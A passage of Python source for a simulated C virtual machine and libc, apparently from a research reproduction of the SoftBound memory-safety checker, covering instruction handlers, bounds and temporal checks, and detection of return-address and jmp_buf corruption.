                if len(self.frames) < depth:
                    return value
                frame = self.frames[-1]
                continue
            handler = _DISPATCH[op]
            next_pos = handler(self, frame, instr)
            if next_pos is None:
                frame.index += 1
            # handlers that branch / call set frame.block/index themselves

    # -- operand evaluation -----------------------------------------------------

    def _value(self, frame, operand):
        if isinstance(operand, Register):
            return frame.regs.get(operand.uid, 0)
        if isinstance(operand, Const):
            return operand.value
        if isinstance(operand, SymbolRef):
            addr = self.symbol_addrs.get(operand.name)
            if addr is None:
                raise Trap(TrapKind.SEGFAULT, f"unresolved symbol {operand.name}")
            return addr + operand.addend
        raise TypeError(f"bad operand {operand!r}")

    @staticmethod
    def _wrap_int(value, irtype):
        bits = irtype.size * 8
        value &= (1 << bits) - 1
        if irtype.kind != "ptr" and value >= 1 << (bits - 1):
            value -= 1 << bits
        return value

    @staticmethod
    def _as_unsigned(value, irtype):
        bits = irtype.size * 8
        return value & ((1 << bits) - 1)

    # -- instruction handlers ----------------------------------------------------

    def _exec_alloca(self, frame, instr):
        offsets, _, _, _, _ = _frame_layout(frame.function)
        frame.regs[instr.dst.uid] = frame.base + offsets[instr.dst.uid]
        self.stats.charge("alloca")

    def _exec_load(self, frame, instr):
        addr = self._value(frame, instr.addr)
        size = instr.type.size
        for observer in self.observers:
            observer.on_load(addr, size)
        if instr.type.is_float:
            value = self.memory.read_f64(addr)
        elif instr.type.is_ptr:
            value = self.memory.read_int(addr, 8, signed=False)
        else:
            value = self.memory.read_int(addr, size, signed=True)
        frame.regs[instr.dst.uid] = value
        stats = self.stats
        stats.charge("load")
        stats.memory_ops += 1
        if instr.is_pointer_value:
            stats.pointer_memory_ops += 1

    def _exec_store(self, frame, instr):
        addr = self._value(frame, instr.addr)
        value = self._value(frame, instr.value)
        size = instr.type.size
        for observer in self.observers:
            observer.on_store(addr, size)
        if instr.type.is_float:
            self.memory.write_f64(addr, value)
        else:
            self.memory.write_int(addr, int(value), size)
        stats = self.stats
        stats.charge("store")
        stats.memory_ops += 1
        if instr.is_pointer_value:
            stats.pointer_memory_ops += 1
        elif self.sb_runtime is not None and self.sb_runtime.observes_stores:
            # Inline-metadata baselines (Section 3.4): data stores reach
            # the in-band metadata.
            self.sb_runtime.on_program_store(addr, size)

    _INT_OPS = {
        "add": lambda a, b: a + b,
        "sub": lambda a, b: a - b,
        "mul": lambda a, b: a * b,
        "and": lambda a, b: a & b,
        "or": lambda a, b: a | b,
        "xor": lambda a, b: a ^ b,
        "shl": lambda a, b: a << (b & 63),
    }

    def _exec_binop(self, frame, instr):
        a = self._value(frame, instr.a)
        b = self._value(frame, instr.b)
        op = instr.op
        dst_type = instr.dst.type
        fn = self._INT_OPS.get(op)
        if fn is not None:
            value = self._wrap_int(fn(int(a), int(b)), dst_type)
        elif op in ("sdiv", "srem"):
            if b == 0:
                raise Trap(TrapKind.DIV_BY_ZERO, "integer division by zero")
            q = abs(a) // abs(b) * (1 if (a >= 0) == (b >= 0) else -1)
            value = self._wrap_int(q if op == "sdiv" else a - q * b, dst_type)
        elif op in ("udiv", "urem"):
            ua = self._as_unsigned(int(a), dst_type)
            ub = self._as_unsigned(int(b), dst_type)
            if ub == 0:
                raise Trap(TrapKind.DIV_BY_ZERO, "integer division by zero")
            value = self._wrap_int(ua // ub if op == "udiv" else ua % ub, dst_type)
        elif op == "lshr":
            ua = self._as_unsigned(int(a), dst_type)
            value = self._wrap_int(ua >> (b & 63), dst_type)
        elif op == "ashr":
            value = self._wrap_int(int(a) >> (b & 63), dst_type)
        elif op.startswith("f"):
            if op == "fdiv":
                value = a / b if b != 0.0 else float("inf") if a > 0 else float("-inf") if a < 0 else float("nan")
            else:
                value = {"fadd": a + b, "fsub": a - b, "fmul": a * b}[op]
        else:
            raise Trap(TrapKind.UNREACHABLE, f"bad binop {op}")
        frame.regs[instr.dst.uid] = value
        self.stats.charge(f"binop.{op}")

    _CMP_SIGNED = {"slt": "<", "sle": "<=", "sgt": ">", "sge": ">="}

    def _exec_cmp(self, frame, instr):
        a = self._value(frame, instr.a)
        b = self._value(frame, instr.b)
        pred = instr.pred
        if pred == "eq":
            result = a == b
        elif pred == "ne":
            result = a != b
        elif pred in ("slt", "sle", "sgt", "sge"):
            result = _compare(self._CMP_SIGNED[pred], a, b)
        elif pred in ("ult", "ule", "ugt", "uge"):
            irtype = _operand_type(instr.a, instr.b)
            ua = self._as_unsigned(int(a), irtype)
            ub = self._as_unsigned(int(b), irtype)
            result = _compare({"ult": "<", "ule": "<=", "ugt": ">", "uge": ">="}[pred], ua, ub)
        elif pred in ("feq", "fne", "flt", "fle", "fgt", "fge"):
            result = _compare({"feq": "==", "fne": "!=", "flt": "<",
                               "fle": "<=", "fgt": ">", "fge": ">="}[pred], a, b)
        else:
            raise Trap(TrapKind.UNREACHABLE, f"bad cmp {pred}")
        frame.regs[instr.dst.uid] = 1 if result else 0
        self.stats.charge("cmp")

    def _exec_gep(self, frame, instr):
        base = self._value(frame, instr.base)
        offset = self._value(frame, instr.offset)
        frame.regs[instr.dst.uid] = (int(base) + int(offset)) & ((1 << 64) - 1)
        self.stats.charge("gep")

    def _exec_cast(self, frame, instr):
        src = self._value(frame, instr.src)
        kind = instr.kind
        dst_type = instr.dst.type
        if kind in ("trunc", "zext", "sext", "bitcast", "ptrtoint", "inttoptr"):
            value = int(src)
            if kind == "zext":
                src_type = instr.src.type if isinstance(instr.src, (Register, Const)) else I64
                value = self._as_unsigned(value, src_type)
            value = self._wrap_int(value, dst_type)
        elif kind in ("sitofp",):
            value = float(int(src))
        elif kind in ("uitofp",):
            src_type = instr.src.type if isinstance(instr.src, (Register, Const)) else I64
            value = float(self._as_unsigned(int(src), src_type))
        elif kind in ("fptosi", "fptoui"):
            value = self._wrap_int(int(src), dst_type)
        else:
            raise Trap(TrapKind.UNREACHABLE, f"bad cast {kind}")
        frame.regs[instr.dst.uid] = value
        self.stats.charge("cast")

    def _exec_mov(self, frame, instr):
        frame.regs[instr.dst.uid] = self._value(frame, instr.src)
        self.stats.charge("mov")

    def _exec_br(self, frame, instr):
        frame.block = frame.function.block_map[instr.label]
        frame.index = 0
        self.stats.charge("br")
        return True

    def _exec_cbr(self, frame, instr):
        cond = self._value(frame, instr.cond)
        label = instr.true_label if cond else instr.false_label
        frame.block = frame.function.block_map[label]
        frame.index = 0
        self.stats.charge("cbr")
        return True

    def _exec_unreachable(self, frame, instr):
        raise Trap(TrapKind.UNREACHABLE, f"in {frame.function.name}/{frame.block.label}")

    def _exec_memcopy(self, frame, instr):
        dst = self._value(frame, instr.dst_addr)
        src = self._value(frame, instr.src_addr)
        size = instr.size
        for observer in self.observers:
            observer.on_load(src, size)
            observer.on_store(dst, size)
        self.memory.write(dst, self.memory.read(src, size))
        if self.sb_runtime is not None:
            if self.sb_runtime.observes_stores:
                self.sb_runtime.on_program_store(dst, size)
            self.sb_runtime.copy_metadata(src, dst, size, instr.ctype)
        self.stats.charge("memcopy.base")
        self.stats.charge("memcopy.per_8_bytes", max(size // 8, 1))
        self.stats.memory_ops += 2

    # -- calls and returns ---------------------------------------------------------

    def _exec_call(self, frame, instr):
        stats = self.stats
        stats.calls += 1
        stats.charge("call")
        stats.charge("call.per_arg", len(instr.args))
        args = [self._value(frame, a) for a in instr.args]
        target_name = instr.callee
        if target_name is None:
            addr = self._value(frame, instr.callee_reg)
            target_name = self.addr_to_function.get(int(addr))
            if target_name is None:
                raise Trap(TrapKind.WILD_JUMP, "indirect call to non-code address",
                           address=int(addr))
        # Prefer the SoftBound-transformed version when it exists.
        if self.sb_runtime is not None and f"_sb_{target_name}" in self.module.functions:
            target_name = f"_sb_{target_name}"
        if target_name in self.module.functions:
            function = self.module.functions[target_name]
            self._check_call_signature(instr, function)
            site = self._site_id(self._call_site_key(frame.function, instr))
            frame.index += 1  # resume after the call on return
            arg_metas = None
            if self.sb_runtime is not None:
                args, arg_metas = self._split_call_metadata(
                    args, instr, self.sb_runtime.meta_arity)
            new_frame = self._push_frame(function, args, site, arg_metas)
            new_frame.dst_reg = instr.dst
            new_frame.dst_meta = getattr(instr, "sb_dst_meta", None)
            new_frame.caller_site = frame
            new_frame.block = function.entry
            new_frame.index = 0
            return True
        # Builtin / libc.
        self._control_transferred = False
        result = self.libc.call(target_name, args, instr)
        if self._control_transferred:
            # longjmp rewrote the current frame's position; do not let
            # the dispatch loop advance past the resume point.
            return True
        if instr.dst is not None:
            if isinstance(result, tuple):
                # (value, base, bound[, key, lock]) — a pointer return
                # from a library wrapper with its metadata attached.
                frame.regs[instr.dst.uid] = result[0]
                meta = getattr(instr, "sb_dst_meta", None)
                if meta is not None:
                    rest = result[1:]
                    for i, reg in enumerate(meta):
                        frame.regs[reg.uid] = rest[i] if i < len(rest) else 0
            else:
                frame.regs[instr.dst.uid] = result if result is not None else 0
                meta = getattr(instr, "sb_dst_meta", None)
                if meta is not None:
                    for reg in meta:
                        frame.regs[reg.uid] = 0

    def _check_call_signature(self, instr, function):
        """Dynamic pointer/non-pointer signature check at indirect calls
        (paper Section 5.2's sketched extension, enabled by the
        ``encode_fnptr_signature`` config flag).  Traps when a function
        pointer was cast to an incompatible argument shape, *before*
        control transfers, instead of relying on a later (and possibly
        absent) in-callee bounds violation."""
        expected = getattr(instr, "sb_call_signature", None)
        declared = getattr(function, "sb_signature", None)
        if expected is None or declared is None:
            return
        signature, varargs = declared
        self.stats.charge("sb.fnptr.check")
        compatible = (
            len(expected) >= len(signature)
            and tuple(expected[: len(signature)]) == signature
            and (varargs or len(expected) == len(signature))
        )
        if not compatible:
            raise Trap(
                TrapKind.FUNCTION_POINTER_VIOLATION,
                f"indirect call signature mismatch: call site passes "
                f"{_sig_text(expected)}, {function.name} declares "
                f"{_sig_text(signature)}{', ...' if varargs else ''}",
                source="softbound",
            )

    def _exec_ret(self, frame, instr):
        self.stats.charge("ret")
        value = self._value(frame, instr.value) if instr.value is not None else None
        meta = getattr(instr, "sb_meta", None)
        meta_vals = None
        if meta is not None:
            meta_vals = tuple(self._value(frame, m) for m in meta)
        # Read the control data back from simulated memory — the attack
        # surface the Wilander suite exercises.
        saved_fp = self.memory.read_ptr(frame.fp)
        ret_addr = self.memory.read_ptr(frame.fp + 8)
        if ret_addr != frame.expected_ret:
            target = self.addr_to_function.get(ret_addr, "")
            kind = TrapKind.CONTROL_FLOW_HIJACK if target else TrapKind.WILD_JUMP
            raise Trap(kind, "return address overwritten",
                       address=ret_addr, target_symbol=target)
        self._pop_frame()
        if not self.frames:
            return value
        caller = self.frames[-1]
        # Restore the caller's FP *from memory* — a corrupted saved FP
        # redirects the caller's own return sequence (old-BP attack).
        if saved_fp != caller.fp:
            caller.fp = saved_fp
        if frame.dst_reg is not None and value is not None:
            caller.regs[frame.dst_reg.uid] = value
        if frame.dst_meta is not None:
            if meta_vals is not None:
                for i, reg in enumerate(frame.dst_meta):
                    caller.regs[reg.uid] = (meta_vals[i]
                                            if i < len(meta_vals) else 0)
            else:
                for reg in frame.dst_meta:
                    caller.regs[reg.uid] = 0
        return value

    # -- SoftBound runtime instructions ------------------------------------------

    def _exec_sb_check(self, frame, instr):
        if self.site_profile is not None:
            self.site_profile.record("sb_check", site_of(instr))
        runtime = self.sb_runtime
        ptr = self._value(frame, instr.ptr)
        base = self._value(frame, instr.base)
        bound = self._value(frame, instr.bound)
        size = self._value(frame, instr.size)
        self.stats.checks += 1
        if instr.is_fnptr_check:
            self.stats.charge("sb.fnptr.check")
            if not (ptr == base == bound) or ptr == 0:
                raise Trap(TrapKind.FUNCTION_POINTER_VIOLATION,
                           "indirect call through non-function pointer",
                           address=ptr, source="softbound")
            return
        self.stats.charge(getattr(runtime, "check_cost_key", "sb.check"))
        if ptr < base or ptr + size > bound:
            raise Trap(
                TrapKind.SPATIAL_VIOLATION,
                f"{instr.access_kind} of {size} bytes outside [0x{base:x}, 0x{bound:x})",
                address=ptr,
                source="softbound",
            )

    def _exec_sb_meta_load(self, frame, instr):
        if self.site_profile is not None:
            self.site_profile.record("sb_meta_load", site_of(instr))
        addr = self._value(frame, instr.addr)
        base, bound = self.sb_runtime.facility.load(addr, self.stats)
        frame.regs[instr.dst_base.uid] = base
        frame.regs[instr.dst_bound.uid] = bound
        if instr.dst_key is not None:
            key, lock = self.sb_runtime.facility.load_temporal(addr, self.stats)
            frame.regs[instr.dst_key.uid] = key
            frame.regs[instr.dst_lock.uid] = lock
        self.stats.metadata_loads += 1

    def _exec_sb_meta_store(self, frame, instr):
        addr = self._value(frame, instr.addr)
        base = self._value(frame, instr.base)
        bound = self._value(frame, instr.bound)
        self.sb_runtime.facility.store(addr, base, bound, self.stats)
        if instr.key is not None:
            self.sb_runtime.facility.store_temporal(
                addr, self._value(frame, instr.key),
                self._value(frame, instr.lock), self.stats)
        self.stats.metadata_stores += 1

    def _exec_sb_temporal_check(self, frame, instr):
        if self.site_profile is not None:
            self.site_profile.record("sb_temporal_check", site_of(instr))
        ptr = self._value(frame, instr.ptr)
        key = self._value(frame, instr.key)
        lock = self._value(frame, instr.lock)
        stats = self.stats
        stats.temporal_checks += 1
        stats.charge("sb.temporal.check")
        if not self.sb_runtime.lockspace.live(key, lock):
            from .errors import temporal_violation

            raise temporal_violation(instr.access_kind, ptr, key, lock)

    def _exec_sb_meta_clear(self, frame, instr):
        addr = self._value(frame, instr.addr)
        size = self._value(frame, instr.size)
        self.sb_runtime.facility.clear_range(addr, size, self.stats)

    # -- services used by libc -----------------------------------------------------

    def notify_load(self, addr, size):
        for observer in self.observers:
            observer.on_load(addr, size)

    def notify_store(self, addr, size, pointer_free=True):
        for observer in self.observers:
            observer.on_store(addr, size)
        if pointer_free and self.sb_runtime is not None \
                and self.sb_runtime.observes_stores:
            self.sb_runtime.on_program_store(addr, size)

    def emit_output(self, text):
        self.output.append(text)

    def read_input_line(self):
        """Read a line from the program's stdin buffer (for gets())."""
        data = self.input_data
        if self.input_pos >= len(data):
            return b""
        end = data.find(b"\n", self.input_pos)
        if end == -1:
            line = data[self.input_pos:]
            self.input_pos = len(data)
        else:
            line = data[self.input_pos:end]
            self.input_pos = end + 1
        return line

    def read_input_char(self):
        if self.input_pos >= len(self.input_data):
            return -1
        byte = self.input_data[self.input_pos]
        self.input_pos += 1
        return byte

    def exit_program(self, code):
        raise _ExitProgram(code)

    # -- setjmp / longjmp --------------------------------------------------------------

    def do_setjmp(self, jb_addr, call_instr):
        token = len(self.jmpbufs) + 1
        resume_target = _LJTARGET_BASE + token * 16
        frame = self.current_frame()
        self.jmpbufs[token] = {
            "depth": len(self.frames),
            "frame": frame,
            "block": frame.block,
            "index": frame.index,
            "sp": self.sp,
            "dst": call_instr.dst,
            "target": resume_target,
        }
        self.memory.write_ptr(jb_addr, token)
        self.memory.write_ptr(jb_addr + 8, resume_target)
        return 0

    def do_longjmp(self, jb_addr, value):
        token = self.memory.read_ptr(jb_addr)
        stored_target = self.memory.read_ptr(jb_addr + 8)
        record = self.jmpbufs.get(token)
        expected = record["target"] if record else None
        if record is None or stored_target != expected:
            # The buffer was corrupted: control goes wherever the attacker
            # pointed it.
            target = self.addr_to_function.get(stored_target, "")
            kind = TrapKind.CONTROL_FLOW_HIJACK if target else TrapKind.WILD_JUMP
            raise Trap(kind, "longjmp through corrupted jmp_buf",
                       address=stored_target, target_symbol=target)
        if record["depth"] > len(self.frames) or self.frames[record["depth"] - 1] is not record["frame"]:
            raise Trap(TrapKind.WILD_JUMP, "longjmp to dead frame")
        # Unwind.
        while len(self.frames) > record["depth"]:
            self._pop_frame()
        self.sp = record["sp"]
        frame = self.frames[-1]
        frame.block = record["block"]
        frame.index = record["index"] + 1
        if record["dst"] is not None:
            frame.regs[record["dst"].uid] = value if value != 0 else 1
        self._control_transferred = True
        return None


def _sig_text(signature):
    return "(" + ", ".join("ptr" if p else "int" for p in signature) + ")"


def _compare(op, a, b):
    if op == "<":
        return a < b
    if op == "<=":
        return a <= b
    if op == ">":
        return a > b
    if op == ">=":
        return a >= b
    if op == "==":
        return a == b
    return a != b


def _operand_type(a, b):
    for operand in (a, b):
        if isinstance(operand, (Register, Const)):
            return operand.type
    return I64


# The interpreter dispatch table is the *shared registry* from
# :mod:`repro.vm.dispatch`: core opcodes register here at import, and
# checker policies register additional opcodes through the same door
# (:meth:`repro.policy.base.CheckerPolicy.register_vm_handlers`) — the
# live dict means later registrations are dispatchable without
# rebuilding any machine.
from .dispatch import INTERP_HANDLERS as _DISPATCH, register_opcode

for _opcode, _handler in (
    ("alloca", Machine._exec_alloca),
    ("load", Machine._exec_load),
    ("store", Machine._exec_store),
    ("binop", Machine._exec_binop),
    ("cmp", Machine._exec_cmp),
    ("gep", Machine._exec_gep),
    ("cast", Machine._exec_cast),
    ("mov", Machine._exec_mov),
    ("br", Machine._exec_br),
    ("cbr", Machine._exec_cbr),
    ("unreachable", Machine._exec_unreachable),
    ("memcopy", Machine._exec_memcopy),
    ("call", Machine._exec_call),
    ("sb_check", Machine._exec_sb_check),
    ("sb_temporal_check", Machine._exec_sb_temporal_check),
    ("sb_meta_load", Machine._exec_sb_meta_load),
    ("sb_meta_store", Machine._exec_sb_meta_store),
    ("sb_meta_clear", Machine._exec_sb_meta_clear),
):
    register_opcode(_opcode, interp=_handler)
del _opcode, _handler
