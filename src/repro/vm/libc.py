"""Libc implemented over simulated memory.

Every routine operates on :class:`~repro.vm.memory.Memory` bytes, so an
out-of-bounds ``strcpy`` really does corrupt adjacent simulated memory
(the VM layer never checks object extents — that is the checkers' job).

When the module has been SoftBound-transformed, calls to these routines
arrive with base/bound companion arguments appended for every
pointer-typed argument; each handler then behaves as the *library
wrapper* the paper describes (Section 5.2): it checks the full extent of
the operation against the passed bounds once, up front, and handles
metadata (memcpy copies it, free clears it, malloc creates it).
"""

import math

from ..frontend.builtins import BUILTIN_SIGNATURES
from .errors import Trap, TrapKind


class Libc:
    def __init__(self, machine):
        self.machine = machine
        self._handlers = {}  # name -> bound handler (getattr done once)

    def builtin_names(self):
        return BUILTIN_SIGNATURES.keys()

    # -- dispatch ------------------------------------------------------------

    def call(self, name, args, instr):
        handler = self._handlers.get(name)
        if handler is None:
            handler = getattr(self, "_do_" + name, None)
            if handler is None:
                raise Trap(TrapKind.SEGFAULT, f"call to unknown function {name!r}")
            self._handlers[name] = handler
        metas = None
        if self.machine.sb_runtime is not None:
            # One implementation of the SoftBound call-convention split
            # (Machine._split_call_metadata) serves direct calls and
            # wrappers alike; handlers index metas per argument, so
            # normalize "no metadata" to a list of Nones.
            args, metas = self.machine._split_call_metadata(
                args, instr, self.machine.sb_runtime.meta_arity)
            if metas is None:
                metas = [None] * len(args)
        return handler(args, metas, instr)


    def _ret_ptr(self, value, meta):
        """Wrap a pointer return value with metadata when SoftBound is
        active (library wrappers must propagate bounds — and under
        temporal checking the (key, lock) pair — for the pointers they
        return, paper Section 5.2)."""
        runtime = self.machine.sb_runtime
        if runtime is None:
            return value
        if value and meta is not None:
            return (value,) + tuple(meta)
        return (value,) + runtime.null_meta

    def _wrapper_check(self, ptr, size, meta, what):
        """The once-per-call wrapper checks (paper Section 5.2): the
        whole extent against the passed bounds, and — under temporal
        checking — the pointer's lock liveness, both up front."""
        if meta is None:
            return
        base, bound = meta[0], meta[1]
        self.machine.stats.charge("sb.check")
        self.machine.stats.checks += 1
        if ptr < base or ptr + size > bound:
            raise Trap(
                TrapKind.SPATIAL_VIOLATION,
                f"{what}: {size} bytes outside [0x{base:x}, 0x{bound:x})",
                address=ptr,
                source="softbound",
            )
        runtime = self.machine.sb_runtime
        if runtime.temporal and len(meta) >= 4:
            runtime.check_live(what, ptr, meta[2], meta[3],
                               self.machine.stats)

    # -- allocation -------------------------------------------------------------

    def _do_malloc(self, args, metas, instr):
        size = int(args[0])
        mem = self.machine.memory
        ptr = mem.malloc(size)
        self.machine.stats.charge_libc("malloc")
        if ptr is None:
            raise Trap(TrapKind.OUT_OF_MEMORY, f"malloc({size})")
        if ptr:
            for observer in self.machine.observers:
                observer.on_heap_alloc(ptr, size)
        runtime = self.machine.sb_runtime
        if runtime is not None:
            # Paper Section 3.1: base = ptr; bound = ptr + size, or NULL
            # bounds when the allocation failed / returned NULL.
            if ptr == 0:
                return (0,) + runtime.null_meta
            runtime.facility.clear_range(ptr, size, self.machine.stats)
            if runtime.temporal:
                # Key the allocation: pointers derived from this return
                # value stay live exactly until free() kills the lock.
                key, lock = runtime.heap_acquire(ptr, self.machine.stats)
                return (ptr, ptr, ptr + size, key, lock)
            return (ptr, ptr, ptr + size)
        return ptr

    def _do_calloc(self, args, metas, instr):
        count, size = int(args[0]), int(args[1])
        total = count * size
        result = self._do_malloc([total], metas, instr)
        ptr = result[0] if isinstance(result, tuple) else result
        if ptr:
            self.machine.memory.write(ptr, bytes(total))
        self.machine.stats.charge_libc("calloc", total)
        return result

    def _do_realloc(self, args, metas, instr):
        old, size = int(args[0]), int(args[1])
        mem = self.machine.memory
        new_result = self._do_malloc([size], metas, instr)
        new = new_result[0] if isinstance(new_result, tuple) else new_result
        if old and new:
            old_size = mem.allocation_size(old) or 0
            copy = min(old_size, size)
            mem.write(new, mem.read(old, copy))
            self._do_free([old], [metas[0]] if metas else None, instr)
        self.machine.stats.charge_libc("realloc", size)
        return new_result

    def _do_free(self, args, metas, instr):
        ptr = int(args[0])
        mem = self.machine.memory
        size = mem.allocation_size(ptr)
        runtime = self.machine.sb_runtime
        if runtime is not None and runtime.temporal and ptr:
            # Lock-and-key free, in two steps mirroring the formal
            # model's Free rule.  First the freeing pointer's *own*
            # (key, lock) must be live: a stale free — double free, or
            # a dangling pointer whose address has since been handed to
            # a new allocation — traps here, *before* the registry is
            # touched (releasing by raw address alone would kill the
            # new owner's lock and false-positive its next access).
            meta = metas[0] if metas else None
            if meta is not None and len(meta) >= 4:
                runtime.check_live("free", ptr, meta[2], meta[3],
                                   self.machine.stats)
            # Then the address must be a live heap allocation: frees of
            # stack/global pointers (live locks, but never malloc'd)
            # trap here, and the allocation's lock dies.
            runtime.heap_release(ptr, self.machine.stats)
        if ptr and size is not None:
            for observer in self.machine.observers:
                observer.on_heap_free(ptr, size)
        mem.free(ptr)
        self.machine.stats.charge_libc("free")
        if runtime is not None and ptr and size is not None:
            # Paper Section 5.2: clear metadata when the static type of
            # the freed pointer says it may contain pointers.
            ctypes = getattr(instr, "arg_ctypes", None)
            pointee = ctypes[0].pointee if ctypes and ctypes[0].is_pointer else None
            if pointee is None or pointee.is_void or pointee.contains_pointer():
                runtime.facility.clear_range(ptr, size, self.machine.stats)
        return 0

    # -- strings -----------------------------------------------------------------

    def _do_strlen(self, args, metas, instr):
        src = int(args[0])
        data = self.machine.memory.read_cstring(src)
        self.machine.notify_load(src, len(data) + 1)
        self.machine.stats.charge_libc("strlen", len(data))
        return len(data)

    def _do_strcpy(self, args, metas, instr):
        dst, src = int(args[0]), int(args[1])
        mem = self.machine.memory
        data = mem.read_cstring(src)
        n = len(data) + 1
        if metas:
            self._wrapper_check(src, n, metas[1], "strcpy source")
            self._wrapper_check(dst, n, metas[0], "strcpy destination")
        self.machine.notify_load(src, n)
        self.machine.notify_store(dst, n)
        mem.write(dst, data + b"\x00")
        self.machine.stats.charge_libc("strcpy", n)
        return self._ret_ptr(dst, metas[0] if metas else None)

    def _do_strncpy(self, args, metas, instr):
        dst, src, n = int(args[0]), int(args[1]), int(args[2])
        mem = self.machine.memory
        data = mem.read_cstring(src)[:n]
        out = data + b"\x00" * (n - len(data))
        if metas:
            self._wrapper_check(src, min(len(data) + 1, n), metas[1], "strncpy source")
            self._wrapper_check(dst, n, metas[0], "strncpy destination")
        self.machine.notify_load(src, len(data))
        self.machine.notify_store(dst, n)
        mem.write(dst, out)
        self.machine.stats.charge_libc("strncpy", n)
        return self._ret_ptr(dst, metas[0] if metas else None)

    def _do_strcat(self, args, metas, instr):
        dst, src = int(args[0]), int(args[1])
        mem = self.machine.memory
        existing = mem.read_cstring(dst)
        data = mem.read_cstring(src)
        n = len(existing) + len(data) + 1
        if metas:
            self._wrapper_check(src, len(data) + 1, metas[1], "strcat source")
            self._wrapper_check(dst, n, metas[0], "strcat destination")
        self.machine.notify_load(src, len(data) + 1)
        self.machine.notify_store(dst + len(existing), len(data) + 1)
        mem.write(dst + len(existing), data + b"\x00")
        self.machine.stats.charge_libc("strcat", n)
        return self._ret_ptr(dst, metas[0] if metas else None)

    def _do_strcmp(self, args, metas, instr):
        a = self.machine.memory.read_cstring(int(args[0]))
        b = self.machine.memory.read_cstring(int(args[1]))
        self.machine.stats.charge_libc("strcmp", min(len(a), len(b)))
        return -1 if a < b else (1 if a > b else 0)

    def _do_strncmp(self, args, metas, instr):
        n = int(args[2])
        a = self.machine.memory.read_cstring(int(args[0]))[:n]
        b = self.machine.memory.read_cstring(int(args[1]))[:n]
        self.machine.stats.charge_libc("strncmp", min(len(a), len(b)))
        return -1 if a < b else (1 if a > b else 0)

    def _do_strchr(self, args, metas, instr):
        src, ch = int(args[0]), int(args[1]) & 0xFF
        data = self.machine.memory.read_cstring(src)
        self.machine.stats.charge_libc("strchr", len(data))
        idx = data.find(bytes([ch]))
        meta = metas[0] if metas else None
        if ch == 0:
            return self._ret_ptr(src + len(data), meta)
        return self._ret_ptr(src + idx if idx >= 0 else 0, meta)

    def _do_gets(self, args, metas, instr):
        dst = int(args[0])
        line = self.machine.read_input_line()
        n = len(line) + 1
        if metas:
            self._wrapper_check(dst, n, metas[0], "gets destination")
        self.machine.notify_store(dst, n)
        self.machine.memory.write(dst, line + b"\x00")
        self.machine.stats.charge_libc("gets", n)
        return self._ret_ptr(dst, metas[0] if metas else None)

    def _do_atoi(self, args, metas, instr):
        data = self.machine.memory.read_cstring(int(args[0]))
        self.machine.stats.charge_libc("atoi", len(data))
        text = data.decode("latin1").strip()
        sign = 1
        if text[:1] in ("-", "+"):
            sign = -1 if text[0] == "-" else 1
            text = text[1:]
        digits = ""
        for ch in text:
            if not ch.isdigit():
                break
            digits += ch
        return sign * int(digits) if digits else 0

    # -- memory block operations ----------------------------------------------------

    def _do_memcpy(self, args, metas, instr):
        dst, src, n = int(args[0]), int(args[1]), int(args[2])
        mem = self.machine.memory
        if metas:
            # Checked "once at the start of the copy" (paper Section 5.2).
            self._wrapper_check(src, n, metas[1], "memcpy source")
            self._wrapper_check(dst, n, metas[0], "memcpy destination")
        self.machine.notify_load(src, n)
        self.machine.notify_store(dst, n)
        mem.write(dst, mem.read(src, n))
        runtime = self.machine.sb_runtime
        if runtime is not None:
            ctypes = getattr(instr, "arg_ctypes", None)
            src_ctype = ctypes[1] if ctypes and len(ctypes) > 1 else None
            runtime.memcpy_metadata(src, dst, n, src_ctype)
        self.machine.stats.charge_libc("memcpy", n)
        return self._ret_ptr(dst, metas[0] if metas else None)

    _do_memmove = _do_memcpy

    def _do_memset(self, args, metas, instr):
        dst, value, n = int(args[0]), int(args[1]) & 0xFF, int(args[2])
        if metas:
            self._wrapper_check(dst, n, metas[0], "memset destination")
        self.machine.notify_store(dst, n)
        self.machine.memory.write(dst, bytes([value]) * n)
        runtime = self.machine.sb_runtime
        if runtime is not None:
            runtime.facility.clear_range(dst, n, self.machine.stats)
        self.machine.stats.charge_libc("memset", n)
        return self._ret_ptr(dst, metas[0] if metas else None)

    def _do_memcmp(self, args, metas, instr):
        a = self.machine.memory.read(int(args[0]), int(args[2]))
        b = self.machine.memory.read(int(args[1]), int(args[2]))
        self.machine.stats.charge_libc("memcmp", int(args[2]))
        return -1 if a < b else (1 if a > b else 0)

    # -- output ----------------------------------------------------------------------

    def _do_printf(self, args, metas, instr):
        fmt = self.machine.memory.read_cstring(int(args[0]))
        text = self._format(fmt, args[1:])
        self.machine.emit_output(text)
        self.machine.stats.charge_libc("printf", len(text))
        return len(text)

    def _do_sprintf(self, args, metas, instr):
        dst = int(args[0])
        fmt = self.machine.memory.read_cstring(int(args[1]))
        text = self._format(fmt, args[2:]).encode("latin1") + b"\x00"
        if metas:
            self._wrapper_check(dst, len(text), metas[0], "sprintf destination")
        self.machine.notify_store(dst, len(text))
        self.machine.memory.write(dst, text)
        self.machine.stats.charge_libc("sprintf", len(text))
        return len(text) - 1

    def _do_snprintf(self, args, metas, instr):
        dst, cap = int(args[0]), int(args[1])
        fmt = self.machine.memory.read_cstring(int(args[2]))
        text = self._format(fmt, args[3:]).encode("latin1")
        out = text[: max(cap - 1, 0)] + b"\x00" if cap > 0 else b""
        if metas and out:
            self._wrapper_check(dst, len(out), metas[0], "snprintf destination")
        if out:
            self.machine.notify_store(dst, len(out))
            self.machine.memory.write(dst, out)
        self.machine.stats.charge_libc("snprintf", len(out))
        return len(text)

    def _format(self, fmt, values):
        """printf-style formatting over simulated-memory arguments."""
        out = []
        values = list(values)
        i = 0
        text = fmt.decode("latin1")
        vi = 0

        def next_value():
            nonlocal vi
            value = values[vi] if vi < len(values) else 0
            # SoftBound-appended metadata args may trail the real ones;
            # callers of _format pass the original slice, so this is just
            # defensive.
            vi += 1
            return value

        while i < len(text):
            ch = text[i]
            if ch != "%":
                out.append(ch)
                i += 1
                continue
            i += 1
            spec = ""
            while i < len(text) and text[i] in "-+ 0123456789.l":
                spec += text[i]
                i += 1
            if i >= len(text):
                break
            conv = text[i]
            i += 1
            spec_clean = spec.replace("l", "")
            if conv == "%":
                out.append("%")
            elif conv in "di":
                out.append(("%" + spec_clean + "d") % int(next_value()))
            elif conv == "u":
                out.append(("%" + spec_clean + "d") % (int(next_value()) & 0xFFFFFFFFFFFFFFFF))
            elif conv == "x":
                out.append(("%" + spec_clean + "x") % (int(next_value()) & 0xFFFFFFFFFFFFFFFF))
            elif conv == "c":
                out.append(chr(int(next_value()) & 0xFF))
            elif conv == "s":
                addr = int(next_value())
                out.append(self.machine.memory.read_cstring(addr).decode("latin1"))
            elif conv in "fge":
